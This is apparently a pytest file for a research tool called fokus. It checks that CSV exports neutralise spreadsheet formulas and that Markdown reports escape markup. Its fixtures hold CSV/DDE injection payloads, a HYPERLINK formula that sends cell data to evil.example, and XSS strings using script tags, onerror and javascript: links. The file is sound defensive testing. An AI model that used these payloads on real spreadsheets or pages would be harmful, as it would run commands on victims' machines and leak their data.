"""Exports opened in a spreadsheet or a Markdown viewer run nothing that participants wrote.

Every CSV fokus writes puts a ' before a cell that starts with = + - @, a tab or a carriage return (OWASP's advice
against CSV injection), except numbers; --raw-csv writes the cells as they are. Markdown reports escape HTML and
links, so that a viewer shows the text and follows nothing.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt

from fokus.analysis.report import safe_markdown, write_report
from fokus.api.messages import import_messages
from fokus.cli import main
from fokus.files.codings import write_rows
from fokus.files.spreadsheet import FORMULA_STARTS, NUMBER, restored_cell, spreadsheet_cell
from fokus.store import Project
from tests.conftest import at, parsed, record

FORMULAS = {
    "m2": '=HYPERLINK("http://evil.example/?"&A1,"klikk")',
    "m3": "+1+cmd|' /C calc'!A0",
    "m4": "-2+3+cmd|' /C calc'!A0",
    "m5": "@SUM(1+1)*cmd|' /C calc'!A0",
    "m6": "\t=1+1",
    "m7": "\r=1+1",
}
MARKUP = {
    "m8": "<script>alert(1)</script> og <img src=x onerror=alert(2)>",
    "m9": "Se [her](javascript:alert(document.cookie)) og ![spor](https://evil.example/pixel.png)",
    "m10": "Lenke: <javascript:alert(3)> og [x](&#x6A;avascript:alert(4)) og [y](vbscript:msgbox(5))",
    "m11": "\\[skjult\\](javascript:alert(6)) [ref]",
    "m12": "[ref]: javascript:alert(7)",
    "m13": "Bilde: [z](data:text/html;base64,PHNjcmlwdD4=)",
}
EVIL_CASE = "=cmd|' /C calc'!A0"
MARKUP_CASE = "<img src=x onerror=alert(8)>"


@pytest.fixture
def hostile(project: Project, tmp_path: Path) -> Project:
    texts = {**FORMULAS, **MARKUP}
    records = [record("m1", "Kari Holmen", "Flommen kom i mars.", when=at(1), case=EVIL_CASE)]
    for n, (source, text) in enumerate(texts.items()):
        case = MARKUP_CASE if source in MARKUP else "Bodø"
        records.append(record(source, f"Person {n}", text, when=at(1, 11, n), thread="m1", parent="m1", case=case))
    with project.begin() as session:
        import_messages(session, [parsed(*records)])
    codings = tmp_path / "codings.csv"
    with codings.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["message_id", "code", "coder"])
        writer.writerows([source, "krise/flom", "+ingrid"] for source in ["m1", *texts])
    cases = tmp_path / "cases.csv"
    cases.write_text(f'kommune,endring,andel,motto\n"{EVIL_CASE}",-3,-0.3,=1+1\nBodø,4,0.5,"-ja"\n', encoding="utf-8")
    fokus(project, "codings", "import", str(codings))
    fokus(project, "cases", "import", str(cases))
    return project


def fokus(project: Project, *args: str) -> str:
    result = CliRunner().invoke(main, ["--db", project.display, *args])
    assert result.exit_code == 0, result.output + result.stderr
    return result.stdout


CSV_EXPORTS = [
    ["export", "messages"],
    ["codings", "export"],
    ["cases", "list", "--format", "csv"],
    ["participants", "list", "--format", "csv"],
    ["freq", "--by", "case", "--format", "csv"],
    ["matrix", "case", "--format", "csv"],
    ["passages", "krise", "--format", "csv"],
]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)


def test_no_csv_export_hands_a_spreadsheet_a_formula(hostile: Project) -> None:
    neutralised: set[str] = set()
    for command in CSV_EXPORTS:
        found = cells(fokus(hostile, *command))
        assert not [cell for cell in found if runs_as_formula(cell)], command
        neutralised |= {cell[1:] for cell in found if cell.startswith("'")}
        raw = cells(fokus(hostile, *command, "--raw-csv"))
        assert [cell for cell in raw if runs_as_formula(cell)], command  # each export has one: the test bites
    assert set(FORMULAS.values()) <= neutralised
    assert {EVIL_CASE, "+ingrid", "=1+1", "-ja"} <= neutralised


def test_numbers_are_written_as_numbers(hostile: Project) -> None:
    rows = list(csv.DictReader(io.StringIO(fokus(hostile, "cases", "list", "--format", "csv"))))
    evil = next(row for row in rows if row["case"] == "'" + EVIL_CASE)
    assert (evil["endring"], evil["andel"], evil["motto"]) == ("-3", "-0.3", "'=1+1")
    out = io.StringIO()
    write_rows([{"a": -0.3, "b": "-0.3", "c": "-x", "d": -7, "e": "@", "f": None}], "abcdef", "csv", out)
    assert out.getvalue().splitlines()[1] == "-0.3,-0.3,'-x,-7,'@,"


def test_the_codings_export_reads_back_in(hostile: Project, tmp_path: Path) -> None:
    """fokus takes its own ' off again: the exported texts still match the messages on import."""
    fokus(hostile, "codings", "export", "-o", "codings.csv")
    assert "'-2+3+cmd" in (tmp_path / "codings.csv").read_text(encoding="utf-8")
    result = CliRunner().invoke(main, ["--db", hostile.display, "codings", "import", "codings.csv"])
    assert result.exit_code == 0, result.output
    assert "0 added" in result.output
    for text in FORMULAS.values():
        assert restored_cell(spreadsheet_cell(text)) == text


def rendered(markdown: str) -> str:
    return MarkdownIt("commonmark").render(markdown)


def test_markdown_reports_show_markup_as_text_and_link_nothing(hostile: Project) -> None:
    for command in (["passages", "krise"], ["matrix", "case"], ["freq", "--by", "case"]):
        html = rendered(fokus(hostile, *command, "--format", "md"))
        assert not re.search(r"<(?:script|img|a|iframe)\b|href=", html), command
    html = rendered(fokus(hostile, "passages", "krise", "--format", "md"))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown, as text
    assert "[her](javascript" in html.replace("\\", "")
    assert "<blockquote>" in html  # the report's own Markdown still works


def test_safe_markdown_keeps_the_reports_own_markup() -> None:
    document = "# Tittel\n\n| a | b |\n|---|---|\n| x \\| y | 1 |\n\n> sitat\n>\n> — Deltaker 01"
    assert safe_markdown(document) == document
    assert safe_markdown("> \\[x](javascript:y)") == "> \\\\\\[x\\](javascript\\:y)"


def test_a_report_in_csv_keeps_floats_and_neutralises_text() -> None:
    class Report:
        title = "t"

        def columns(self) -> list[str]:
            return ["name", "effect"]

        def rows(self) -> list[dict[str, object]]:
            return [{"name": "=1+1", "effect": -0.3}, {"name": "-", "effect": None}]

    out = io.StringIO()
    write_report(Report(), "csv", out)  # type: ignore[arg-type]
    assert out.getvalue() == "name,effect\n'=1+1,-0.3\n'-,\n"
    out = io.StringIO()
    write_report(Report(), "csv", out, raw_csv=True)  # type: ignore[arg-type]
    assert out.getvalue() == "name,effect\n=1+1,-0.3\n-,\n"
